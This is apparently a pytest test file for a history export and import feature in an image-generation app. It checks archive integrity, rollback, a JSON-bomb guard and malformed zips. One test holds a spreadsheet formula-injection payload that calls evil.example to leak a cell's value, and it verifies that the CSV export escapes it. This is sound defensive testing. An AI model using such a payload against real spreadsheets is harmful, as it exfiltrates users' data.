"""History export and import carry the init images and masks the generations started from (`sources/` in the data
folder, content-addressed): each once in the zip, restored on import (a file already here is kept), and an archive
whose source is missing or corrupt is refused with a sentence before anything of it is written."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from storage import HistoryStore, StorageError
from storage.archive import source_name
from tests.storage_helpers import new_generation


@pytest.fixture
def other(tmp_path):
    """The data folder an archive is imported into."""
    history = HistoryStore(tmp_path / "other", f"sqlite:///{tmp_path / 'other.sqlite3'}").open()
    yield history
    history.close()


def started_from_pictures(store) -> tuple[str, str]:
    """Two inpaint generations sharing one init image and one mask, and a text-to-image one; (image, mask) addresses."""
    image = store.put_source(Image.new("RGB", (64, 64), (10, 120, 200)))
    mask = store.put_source(Image.new("L", (64, 64), 255))
    for seed in (1, 2):
        store.add(new_generation("from a picture", seed=seed, mode="inpaint", strength=0.7, source_sha256=image,
                                 mask_sha256=mask))  # fmt: skip
    store.add(new_generation("from noise", seed=3))
    return image, mask


def source_files(store) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in (store.data_dir / "sources").rglob("*.png")}


def picture_files(store) -> list[Path]:
    """Every PNG and thumbnail in a data folder: images, thumbnails and sources."""
    return [path for path in store.data_dir.rglob("*") if path.suffix in (".png", ".webp")]


def rewritten(archive: Path, target: Path, change) -> Path:
    """A copy of `archive` with each member's bytes passed through `change(name, data)` (None leaves it out)."""
    with zipfile.ZipFile(archive) as old, zipfile.ZipFile(target, "w") as new:
        for name in old.namelist():
            data = change(name, old.read(name))
            if data is not None:
                new.writestr(name, data)
    return target


def test_sources_travel_once_and_come_back(store, other, tmp_path):
    image, mask = started_from_pictures(store)
    archive = tmp_path / "history.zip"
    assert store.export_archive(archive) == 3
    with zipfile.ZipFile(archive) as zipped:
        names = zipped.namelist()
        rows = json.loads(zipped.read("history.json"))["generations"]
    assert sorted(n for n in names if n.startswith("sources/")) == sorted([source_name(image), source_name(mask)])
    assert [(r["mode"], r["strength"], r["source_sha256"], r["mask_sha256"]) for r in rows] == [
        ("inpaint", 0.7, image, mask), ("inpaint", 0.7, image, mask), ("txt2img", None, None, None)
    ]  # fmt: skip

    assert other.import_archive(archive) == (3, 0)
    assert source_files(other) == source_files(store)  # the same bytes under the same addresses
    restored = [g for g in other.page().items if g.source_sha256]
    assert {(g.mode, g.strength, g.source_sha256, g.mask_sha256) for g in restored} == {("inpaint", 0.7, image, mask)}
    assert other.load_source(image).size == (64, 64) and other.load_source(mask).mode == "L"
    assert other.import_archive(archive) == (0, 3)  # twice adds nothing


def test_a_source_already_here_is_kept_as_it_is(store, other, tmp_path):
    image, _mask = started_from_pictures(store)
    archive = tmp_path / "history.zip"
    store.export_archive(archive)
    here = other.absolute(other.source_relative(other.put_source(Image.new("RGB", (64, 64), (10, 120, 200)))))
    before = here.stat()
    assert other.import_archive(archive) == (3, 0)
    after = here.stat()
    assert (after.st_ino, after.st_mtime_ns) == (before.st_ino, before.st_mtime_ns)  # not written again
    assert here.name == f"{image}.png"


@pytest.mark.parametrize(
    ("change", "sentence"),
    [
        (lambda name, data: data[:-20] + bytes(20) if name.startswith("sources/") else data,
         r"is corrupt \(its content does not match its name\)"),
        (lambda name, data: None if name.startswith("sources/") else data, "names an init image"),
    ],
    ids=["corrupt", "missing"],
)  # fmt: skip
def test_a_corrupt_or_missing_source_refuses_the_whole_archive(store, other, tmp_path, change, sentence):
    started_from_pictures(store)
    archive = tmp_path / "history.zip"
    store.export_archive(archive)
    broken = rewritten(archive, tmp_path / "broken.zip", change)
    with pytest.raises(StorageError, match=sentence) as caught:
        other.import_archive(broken)
    assert "\n" not in str(caught.value)
    assert other.count() == 0 and picture_files(other) == []  # nothing of it stays


def test_a_bad_image_late_in_the_archive_leaves_nothing_behind(store, other, tmp_path):
    """Rows added before the entry that fails are removed again, with their files and the sources written."""
    started_from_pictures(store)
    archive = tmp_path / "history.zip"
    store.export_archive(archive)
    with zipfile.ZipFile(archive) as zipped:
        last = json.loads(zipped.read("history.json"))["generations"][-1]["images"][0]["file"]
    broken = rewritten(archive, tmp_path / "broken.zip", lambda name, data: b"not a png" if name == last else data)
    with pytest.raises(StorageError, match="not a readable PNG"):
        other.import_archive(broken)
    assert other.count() == 0 and picture_files(other) == []


def test_a_source_lost_on_disk_is_exported_without_its_link(store, other, tmp_path):
    image, mask = started_from_pictures(store)
    store.absolute(store.source_relative(mask)).unlink()
    archive = tmp_path / "history.zip"
    store.export_archive(archive)
    with zipfile.ZipFile(archive) as zipped:
        assert source_name(mask) not in zipped.namelist()
    assert other.import_archive(archive) == (3, 0)  # the archive holds every source its rows name
    restored = [g for g in other.page().items if g.mode == "inpaint"]
    assert {(g.source_sha256, g.mask_sha256) for g in restored} == {(image, None)}


def test_an_init_image_goes_with_the_last_row_that_names_it(store):
    """Deleting generations removed their images but never the init images and masks they started from (a hostile
    pass): one no row names any more is removed; one another row still names stays."""
    image, mask = started_from_pictures(store)
    first, second = (g.id for g in store.page().items if g.prompt == "from a picture")
    store.delete(first)
    assert set(source_files(store)) == {f"{image}.png", f"{mask}.png"}  # the other inpaint still names both
    store.delete_many([second])
    assert source_files(store) == {}


def test_an_import_adds_no_image_to_a_blocked_row_and_keeps_no_source_only_it_named(
    store, other, tmp_path, monkeypatch
):
    """A `blocked` entry (the app never keeps a blocked row's pictures) comes in without its images and init image;
    an entry with more images than its num_images is refused."""
    started_from_pictures(store)
    archive = tmp_path / "history.zip"
    store.export_archive(archive)

    def blocked(name, data):
        if name != "history.json":
            return data
        document = json.loads(data)
        for entry in document["generations"]:
            entry["status"] = "blocked"
        return json.dumps(document).encode()

    assert other.import_archive(rewritten(archive, tmp_path / "blocked.zip", blocked)) == (3, 0)
    assert all(g.images == [] and g.source_sha256 is None for g in other.page().items)
    assert picture_files(other) == []  # no image, no thumbnail, no init image or mask

    def doubled(name, data):
        if name != "history.json":
            return data
        document = json.loads(data)
        entry = document["generations"][0]
        entry["images"] = entry["images"] * 2
        return json.dumps(document).encode()

    with pytest.raises(StorageError, match="more images than its num_images"):
        other.import_archive(rewritten(archive, tmp_path / "doubled.zip", doubled))
    # Refused when the archive is opened, before any image is decoded: one PNG listed 150 times under one entry was
    # decoded 150 times (3 GB) before the refusal came (a hostile pass).
    import storage.archive as archive_module

    decoded = []
    real = archive_module._checked_png
    monkeypatch.setattr(archive_module, "_checked_png", lambda png, name: decoded.append(name) or real(png, name))
    with pytest.raises(StorageError, match="more images than its num_images"):
        archive_module.ArchiveReader(tmp_path / "doubled.zip")
    assert decoded == []

    def not_a_list(name, data):
        if name != "history.json":
            return data
        document = json.loads(data)
        document["generations"][0]["images"] = "images/000001-0.png"
        return json.dumps(document).encode()

    with pytest.raises(StorageError, match=r"^Entry 1 of history.json has an invalid list of images\.$"):
        archive_module.ArchiveReader(rewritten(archive, tmp_path / "string.zip", not_a_list))


@pytest.mark.parametrize(
    ("document", "sentence"),
    [
        (b'{"format": "krea2-studio-history/2", "generations": []}', "another version's format"),
        (b'{"format": "krea2-studio-history/1", "generations": [' + b"{}," * 7_000_000 + b"{}]}", "far more entries"),
    ],
)
def test_a_newer_export_or_a_json_bomb_is_one_sentence(other, tmp_path, document, sentence):
    """A history.json of a few MB that would parse into gigabytes of empty objects is refused before parsing."""
    archive = tmp_path / "odd.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as created:
        created.writestr("history.json", document)
    with pytest.raises(StorageError, match=sentence):
        other.import_archive(archive)


def test_brackets_inside_prompts_are_not_counted_as_entries(other, tmp_path):
    """The bomb guard counts JSON's objects and arrays, not the brackets of an A1111-style prompt."""
    archive = tmp_path / "brackets.zip"
    text = json.dumps({"format": "krea2-studio-history/1", "generations": [], "note": '[[(a "cat")]]' * 3_500_000})
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as created:
        created.writestr("history.json", text)
    assert other.import_archive(archive) == (0, 0)


def test_the_csv_shows_a_formula_as_text(store, tmp_path):
    """Prompts like `=HYPERLINK(...)` were formulas once history.csv was opened in a spreadsheet."""
    import csv
    import io

    store.add(new_generation('=HYPERLINK("http://evil.example/?x="&A1,"click")', seed=1))
    store.add(new_generation("@SUM(1+1)", seed=2))
    archive = tmp_path / "history.zip"
    store.export_archive(archive)
    with zipfile.ZipFile(archive) as opened:
        prompts = [row["prompt"] for row in csv.DictReader(io.StringIO(opened.read("history.csv").decode()))]
        records = json.loads(opened.read("history.json"))["generations"]
    assert prompts == ['\'=HYPERLINK("http://evil.example/?x="&A1,"click")', "'@SUM(1+1)"]
    assert records[0]["prompt"].startswith("=HYPERLINK")  # history.json, which an import reads, keeps it as it was


def with_central_header(archive: Path, target: Path, member: str, offset: int, value: bytes) -> Path:
    """A copy of `archive` whose central-directory entry for `member` has `value` at `offset` (8: the flag bits, 10:
    the compression method): what another zip tool may write, and what zipfile reads before opening a member."""
    data = bytearray(archive.read_bytes())
    start = data.find(b"PK\x01\x02")  # the first central-directory entry; walk to `member`'s
    while start != -1:
        name_length = int.from_bytes(data[start + 28 : start + 30], "little")
        if data[start + 46 : start + 46 + name_length] == member.encode():
            data[start + offset : start + offset + len(value)] = value
            target.write_bytes(bytes(data))
            return target
        start = data.find(b"PK\x01\x02", start + 46)
    raise AssertionError(f"{member} not in {archive}")


@pytest.mark.parametrize(
    ("member", "offset", "value", "sentence"),
    [
        ("history.json", 8, b"\x01\x00", r"^The history.json in that zip is encrypted \(exports are not; unzip it"),
        ("history.json", 10, b"\x63\x00", r"^The history.json in that zip is compressed in a way this app cannot"),
        ("image", 8, b"\x01\x00", r"^images/.+\.png in that zip is encrypted"),
        ("image", 10, b"\x01\x00", r"^images/.+\.png in that zip is compressed in a way this app cannot read"),
    ],
    ids=["encrypted-json", "aes-json", "encrypted-png", "shrunk-png"],
)  # fmt: skip
def test_a_zip_another_tool_wrote_is_refused_in_a_sentence(store, other, tmp_path, member, offset, value, sentence):
    """A hostile pass: a password-protected zip, or one compressed in a method zipfile lacks, read "Something went
    wrong (RuntimeError / NotImplementedError)"."""
    store.add(new_generation("a fox"))
    archive = tmp_path / "history.zip"
    store.export_archive(archive)
    if member == "image":
        with zipfile.ZipFile(archive) as zipped:
            member = next(name for name in zipped.namelist() if name.endswith(".png"))
    changed = with_central_header(archive, tmp_path / "changed.zip", member, offset, value)
    with pytest.raises(StorageError, match=sentence):
        other.import_archive(changed)
    assert other.count() == 0


def test_an_image_with_an_oversized_text_chunk_is_refused_in_a_sentence(store, other, tmp_path):
    """Pillow refuses a PNG text chunk over 1 MB with a ValueError: it read "Something went wrong (ValueError)"."""
    from PIL import PngImagePlugin

    store.add(new_generation("a fox"))
    archive = tmp_path / "history.zip"
    store.export_archive(archive)

    def with_big_text(name, data):
        if not name.endswith(".png"):
            return data
        info = PngImagePlugin.PngInfo()
        info.add_text("comment", "x" * (2 * 2**20), zip=True)
        buffer = io.BytesIO()
        Image.open(io.BytesIO(data)).save(buffer, format="PNG", pnginfo=info)
        return buffer.getvalue()

    with pytest.raises(StorageError, match=r"\.png in that zip is not a readable PNG\.$"):
        other.import_archive(rewritten(archive, tmp_path / "big-text.zip", with_big_text))
